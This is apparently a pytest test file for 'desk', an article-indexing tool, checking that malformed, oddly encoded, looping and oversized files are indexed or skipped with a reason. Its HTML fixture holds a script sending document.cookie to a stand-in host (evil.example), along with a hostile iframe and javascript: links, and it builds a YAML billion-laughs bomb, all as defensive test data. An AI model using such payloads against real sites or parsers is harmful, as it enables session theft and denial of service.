"""Hostile article folders: every good file is indexed, every bad one reported with a reason.

All files are generated here at run time; nothing large is committed.
"""

from __future__ import annotations

import builtins
import errno
import io
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from desk.library import Library
from desk.model import IndexReport

from .conftest import article_text, run_desk


def _write(path: Path, data: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def _encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    w.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


HTML_HOSTILE = """<!doctype html>
<html><head><title>Flood evacuation page</title>
<script>window.location='http://evil.example/steal?c='+document.cookie; alert('pwned-script')</script>
</head><body>
<article>
<h1>Flood evacuation continues</h1>
<p>Officials said on Tuesday that 250 people had been evacuated from the riverside district
after the water rose by two metres overnight.</p>
<iframe src="http://evil.example/frame"></iframe>
<p>The governor said <img src="http://evil.example/pixel.png" alt="tracking"> the water was still
rising, and <a href="javascript:alert('pwned-link')">a link</a> urged people to stay away.</p>
<p>About 1,200 homes were without power on Wednesday, the utility company said in a statement.</p>
</article>
<script>alert('pwned-tail')</script>
</body></html>
"""

GOOD_TEXT = article_text(0)


def _cases(folder: Path) -> dict[str, str]:
    """Write the hostile folder; return relpath -> "indexed" or "skipped"."""
    want: dict[str, str] = {}

    def put(rel: str, data: bytes | str, expect: str) -> None:
        _write(folder / rel, data)
        want[rel] = expect

    put("good/plain.md", GOOD_TEXT, "indexed")
    put("empty.txt", b"", "skipped")
    put("blank.md", b"   \n\n\t \n", "skipped")
    put("binary.txt", bytes(range(256)) * 64, "skipped")
    put("random.md", os.urandom(4096) + b"\x00" * 64, "skipped")
    put("invalid-utf8.md", article_text(1).encode() + b"\n\nA broken byte \xff\xfe here and \xc3 there.\n", "indexed")
    put("utf16-bom.txt", "\ufeff".encode("utf-16-le") + article_text(2).encode("utf-16-le"), "indexed")
    put("utf16-nobom.txt", article_text(3).encode("utf-16-le"), "indexed")
    put("utf16be-bom.txt", b"\xfe\xff" + article_text(4).encode("utf-16-be"), "indexed")
    put("cp1252.txt", (article_text(5) + "\nThe café owner said “thank you” – twice.\n").encode("cp1252"), "indexed")
    put(
        "shift-jis.txt",
        ("東京都の知事は火曜日、避難者が三百人に達したと述べた。\n\n" * 5 + "川の水位は二メートル上昇した。\n").encode("shift_jis"),
        "indexed",
    )
    put("mojibake.md", (article_text(6) + "\nThe café’s owner said “hello”.\n").encode("utf-8").decode("cp1252", "replace").encode("utf-8"), "indexed")
    put("nul-bytes.md", article_text(7).encode().replace(b"people", b"peo\x00ple", 1), "indexed")
    put("long-line.md", article_text(8) + "\n\n" + ("word " * 200_000) + "\n", "indexed")
    put("hostile.html", HTML_HOSTILE, "indexed")
    put("fake.pdf", b"This is not a PDF at all, just text pretending.\n" * 20, "skipped")
    put("truncated.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\n" + os.urandom(500), "skipped")
    put("encrypted.pdf", _encrypted_pdf(), "skipped")
    put(
        "bad-yaml.md",
        "---\ntitle: [unclosed\nsite: : :\n  - broken: {\n---\n" + article_text(9),
        "indexed",
    )
    bomb = ["---", 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    prev = "a"
    for name in "bcdefghi":
        bomb.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
        prev = name
    bomb += ["title: *i", "site: *i", "date: *i", "---", article_text(10)]
    put("yaml-bomb.md", "\n".join(bomb), "indexed")
    put("name\nwith newline.md", article_text(11), "indexed")
    put("rtl-\u202emd.txt-\u200fname.md", article_text(12), "indexed")
    deep = "/".join(f"d{i}" for i in range(50))
    put(f"{deep}/deep.md", article_text(13), "indexed")
    put("unreadable.md", article_text(14), "skipped")
    put("vanishes.md", article_text(15), "skipped")
    put("changes.md", article_text(16, n=111), "indexed")
    # a folder link loop and a file link loop
    os.symlink("..", folder / "good" / "loop")
    os.symlink("b-link.md", folder / "a-link.md")
    os.symlink("a-link.md", folder / "b-link.md")
    want["a-link.md"] = "skipped"
    want["b-link.md"] = "skipped"
    os.symlink("does-not-exist.md", folder / "dangling.md")
    want["dangling.md"] = "skipped"
    # a file name that is not valid UTF-8 (bytes path)
    bad_name = os.fsencode(folder) + b"/bad-\xff\xfe-name.md"
    with open(bad_name, "wb") as fh:
        fh.write(article_text(17).encode())
    want[os.fsdecode(b"bad-\xff\xfe-name.md")] = "indexed"
    return want


class _Hostile:
    """Simulates the failures root cannot produce with chmod, or that need precise timing.

    Tests run as root, and root reads chmod-000 files, so an unreadable file is
    simulated by making ``open`` raise PermissionError for that one path.  A
    file that vanishes is deleted just before desk opens it; a file that
    changes is appended to just before desk opens it.
    """

    def __init__(self, folder: Path) -> None:
        self.unreadable = os.fspath(folder / "unreadable.md")
        self.vanishes = os.fspath(folder / "vanishes.md")
        self.changes = os.fspath(folder / "changes.md")
        self.changed = False
        self._open = builtins.open

    def open(self, file: Any, *args: Any, **kwargs: Any) -> Any:
        name = os.fspath(file) if isinstance(file, str | os.PathLike) else None
        if name == self.unreadable:
            raise PermissionError(errno.EACCES, "Permission denied", name)
        if name == self.vanishes and os.path.exists(name):
            os.unlink(name)
        if name == self.changes and not self.changed:
            self.changed = True
            with self._open(name, "a", encoding="utf-8") as fh:
                fh.write("\nA late paragraph was added while desk was reading the file.\n")
        return self._open(file, *args, **kwargs)


def _outcome(lib: Library, report: IndexReport) -> tuple[dict[str, str], dict[str, str]]:
    indexed = {a.relpath: a.id for a in lib.articles()}
    folder = os.fspath(lib.folder)
    skipped = {}
    for s in report.skipped:
        rel = os.path.relpath(s.path, folder).replace(os.sep, "/")
        skipped[rel] = s.reason
    return indexed, skipped


@pytest.mark.timeout(240)
def test_hostile_folder_every_file_indexed_or_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "articles"
    want = _cases(folder)
    hostile = _Hostile(folder)
    monkeypatch.setattr(builtins, "open", hostile.open)
    with Library(folder, data_dir=tmp_path / "data") as lib:
        report = lib.update(extract=False)
        monkeypatch.setattr(builtins, "open", hostile._open)
        indexed, skipped = _outcome(lib, report)

        for rel, expect in want.items():
            if expect == "indexed":
                assert rel in indexed, f"{rel!r} should be indexed; skipped because {skipped.get(rel)!r}"
                assert rel not in skipped
            else:
                assert rel in skipped, f"{rel!r} should be reported as skipped (indexed: {rel in indexed})"
                assert skipped[rel].strip(), f"{rel!r} skipped without a reason"
                assert rel not in indexed
        print(
            f"hostile folder: {len(want)} cases, {sum(v == 'indexed' for v in want.values())} indexed, "
            f"{len(skipped)} reported: " + "; ".join(f"{p!r}: {r}" for p, r in sorted(skipped.items()))
        )
        # the folder loop is reported, not followed forever
        assert any("loop" in r for p, r in skipped.items() if p.startswith("good/loop")), skipped
        # each reason says what is wrong, in words
        assert "empty" in skipped["empty.txt"]
        assert "binary" in skipped["binary.txt"]
        assert "PDF" in skipped["fake.pdf"]
        assert "encrypted" in skipped["encrypted.pdf"]
        assert "permission" in skipped["unreadable.md"].lower()
        assert "no such file" in skipped["vanishes.md"].lower() or "disappeared" in skipped["vanishes.md"]
        assert "loop" in skipped["a-link.md"]

        def text_of(rel: str) -> str:
            return lib.article(indexed[rel]).text

        # decoded correctly, not as noise
        for rel in ("utf16-bom.txt", "utf16-nobom.txt", "utf16be-bom.txt"):
            assert "evacuated from the town" in text_of(rel), rel
        assert "café" in text_of("cp1252.txt")
        assert "避難者" in text_of("shift-jis.txt")
        assert "café’s owner" in text_of("mojibake.md")
        assert "\x00" not in text_of("nul-bytes.md")
        # HTML: the text only, no script, no markup
        html = text_of("hostile.html")
        assert "250 people had been evacuated" in html
        for bad in ("pwned", "evil.example", "<script", "<iframe", "javascript:", "document.cookie"):
            assert bad not in html, bad
        # the YAML bomb and the broken YAML: the body is kept, the front matter is not trusted
        bomb = lib.article(indexed["yaml-bomb.md"])
        assert len(bomb.title) < 300
        assert len(bomb.outlet) < 300
        assert "evacuated" in bomb.text
        assert "evacuated" in text_of("bad-yaml.md")
        # the file that changed while read is indexed; the next run sees the change
        assert hostile.changed
        # searches find the good files, and with strange names
        hits = lib.search("evacuated", limit=100, per_article=1)
        found = {h.relpath for h in hits.hits}
        assert {"good/plain.md", "name\nwith newline.md", "rtl-\u202emd.txt-\u200fname.md"} <= found

        first_read = text_of("changes.md")
        second = lib.update(extract=False)
        # the change made as desk opened the file is never lost: the first run read it (the stat is
        # taken from the file opened since h33h, so it matches what was read), or the second reads it again
        assert second.updated == (0 if "late paragraph" in first_read else 1), (
            "the file that changed during the first run must be read again"
        )
        assert "late paragraph" in text_of("changes.md")
        assert second.added == 0
        assert second.removed == 0


@pytest.mark.timeout(120)
def test_cli_reports_hostile_names_on_one_line_each(tmp_path: Path) -> None:
    """The CLI lists skipped files with odd names without breaking its output into fake lines."""
    folder = tmp_path / "articles"
    _write(folder / "ok.md", article_text(1))
    _write(folder / "evil\nskipped fake.md", b"")
    _write(folder / "\u202eevil.md", b"\x00\x01\x02" * 100)
    bad = os.fsencode(folder) + b"/x\xffy.txt"
    with open(bad, "wb"):
        pass
    run = run_desk(["index", folder, "--no-extract"], data_dir=tmp_path / "data")
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr
    lines = run.stdout.splitlines()
    skipped_lines = [ln for ln in lines if ln.strip().startswith("skipped ")]
    assert len(skipped_lines) == 3, run.stdout
    assert "1 added" in lines[0]
    assert "3 skipped" in lines[0]


def _tiny_files(folder: Path, n: int) -> Iterator[str]:
    for i in range(n):
        sub = folder / f"batch{i // 1000:02d}"
        if i % 1000 == 0:
            sub.mkdir(parents=True)
        name = f"a{i:05d}.txt"
        (sub / name).write_text(f"Report {i}: officials counted {i} boats on the river near Example{i}.\n")
        yield f"{sub.name}/{name}"


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_ten_thousand_tiny_files(tmp_path: Path) -> None:
    folder = tmp_path / "tiny"
    rels = list(_tiny_files(folder, 10_000))
    run = run_desk(["index", folder, "--no-extract", "--json"], data_dir=tmp_path / "data", timeout=280)
    assert run.returncode == 0, run.stderr[-3000:]
    import json

    report = json.loads(run.stdout)
    assert report["added"] == len(rels), report
    assert report["skipped"] == []
    with Library(folder, data_dir=tmp_path / "data") as lib:
        assert len(lib.articles()) == 10_000
        hit = lib.search('"counted 7321 boats"')
        assert [h.relpath for h in hit.hits] == ["batch07/a07321.txt"]
    print(f"10,000 tiny files: {run.seconds:.1f} s, peak RSS {run.peak_rss_mb:.0f} MB")


def _big_text_file(path: Path, size: int) -> None:
    """A real text file (not sparse zeros): paragraphs repeated up to ``size`` bytes."""
    block = ("\n\n".join(article_text(k) for k in range(40)) + "\n\n").encode()
    with open(path, "wb") as fh:
        written = 0
        chunk = block * max(1, (1 << 22) // len(block))
        while written < size:
            fh.write(chunk)
            written += len(chunk)


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_huge_files_are_bounded_in_time_and_memory(tmp_path: Path) -> None:
    folder = tmp_path / "big"
    folder.mkdir()
    _write(folder / "small.md", article_text(1))
    _big_text_file(folder / "huge.txt", 200 * 1024 * 1024)
    with open(folder / "sparse.md", "wb") as fh:  # 200 MB of nothing, made in no time
        fh.truncate(200 * 1024 * 1024)
    data_uri = folder / "data-uri.html"
    with open(data_uri, "wb") as fh:
        fh.write(b"<!doctype html><html><body><p>" + article_text(2).encode() + b'</p><img src="data:image/png;base64,')
        piece = b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA" * 1024
        for _ in range((100 * 1024 * 1024) // len(piece)):
            fh.write(piece)
        fh.write(b'"></body></html>')

    small = tmp_path / "only-small"
    _write(small / "small.md", article_text(1))
    baseline = run_desk(["index", small, "--no-extract"], data_dir=tmp_path / "d0")
    assert baseline.returncode == 0, baseline.stderr
    run = run_desk(["index", folder, "--no-extract", "--json"], data_dir=tmp_path / "d1", timeout=240)
    assert run.returncode == 0, run.stderr[-3000:]
    import json

    report = json.loads(run.stdout)
    skipped = {Path(s["path"]).name: s["reason"] for s in report["skipped"]}
    assert report["added"] == 1
    assert set(skipped) == {"huge.txt", "sparse.md", "data-uri.html"}
    for reason in skipped.values():
        assert "too large" in reason
    print(
        f"huge files: {run.seconds:.1f} s, peak RSS {run.peak_rss_mb:.0f} MB "
        f"(one small file: {baseline.peak_rss_mb:.0f} MB)"
    )
    # memory stays bounded: the 200 MB and 100 MB files are never held in memory
    assert run.peak_rss_mb < baseline.peak_rss_mb + 150, (run.peak_rss_mb, baseline.peak_rss_mb)


@pytest.mark.timeout(120)
def test_search_in_a_library_of_only_bad_files(tmp_path: Path) -> None:
    """An empty index (every file skipped) answers searches with nothing, not a traceback."""
    folder = tmp_path / "bad-only"
    _write(folder / "empty.md", b"")
    _write(folder / "fake.pdf", b"no pdf")
    run = run_desk(["search", folder, "evacuated"], data_dir=tmp_path / "data")
    assert run.returncode == 1, run.stderr
    assert "Traceback" not in run.stderr
    assert "No passages" in run.stderr
    with Library(folder, data_dir=tmp_path / "data") as lib:
        result = lib.search("evacuated")
        assert result.hits == []
        assert result.outlets == {}


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_page_with_a_30_mb_data_uri_under_the_size_limit(tmp_path: Path) -> None:
    """Under the size limit, the page is read; the inline payload never becomes text, memory stays bounded."""
    folder = tmp_path / "uri"
    folder.mkdir()
    with open(folder / "page.html", "wb") as fh:
        fh.write(b"<!doctype html><html><body><p>" + article_text(2).encode() + b'</p><img src="data:image/png;base64,')
        piece = b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA" * 1024
        for _ in range((30 * 1024 * 1024) // len(piece)):
            fh.write(piece)
        fh.write(b'"></body></html>')
    run = run_desk(["index", folder, "--no-extract"], data_dir=tmp_path / "data", timeout=240)
    assert run.returncode == 0, run.stderr
    assert "1 added" in run.stdout
    with Library(folder, data_dir=tmp_path / "data") as lib:
        (article,) = lib.articles()
        text = lib.article(article.id).text
    assert "evacuated from the town" in text
    assert "iVBORw0KGgo" not in text
    assert len(text) < 10_000
    print(f"30 MB data URI page: {run.seconds:.1f} s, peak RSS {run.peak_rss_mb:.0f} MB")
    assert run.peak_rss_mb < 600


@pytest.mark.timeout(120)
@pytest.mark.parametrize("encoding", ["utf-8", "cp1252"])
def test_cli_prints_any_name_on_a_strict_terminal(tmp_path: Path, encoding: str) -> None:
    """A UTF-8 desktop locale makes stdout strict: a file name that is not UTF-8 (or a title a
    cp1252 console cannot show) must not turn into 'internal error: UnicodeEncodeError'."""
    folder = tmp_path / "articles"
    folder.mkdir()
    with open(os.fsencode(folder) + b"/x\xffy.md", "wb") as fh:
        fh.write(("# 東京 report\n\n" + article_text(1)).encode())
    with open(os.fsencode(folder) + b"/z\xfe.txt", "wb"):
        pass
    env = {"PYTHONIOENCODING": f"{encoding}:strict"}
    for args in (["index", folder, "--no-extract"], ["articles", folder], ["articles", folder, "--json"],
                 ["search", folder, "evacuated"], ["search", folder, "evacuated", "--json"]):
        run = run_desk(args, data_dir=tmp_path / "data", env=env)
        assert run.returncode == 0, (args, run.stderr)
        assert "internal error" not in run.stderr, (args, run.stderr)
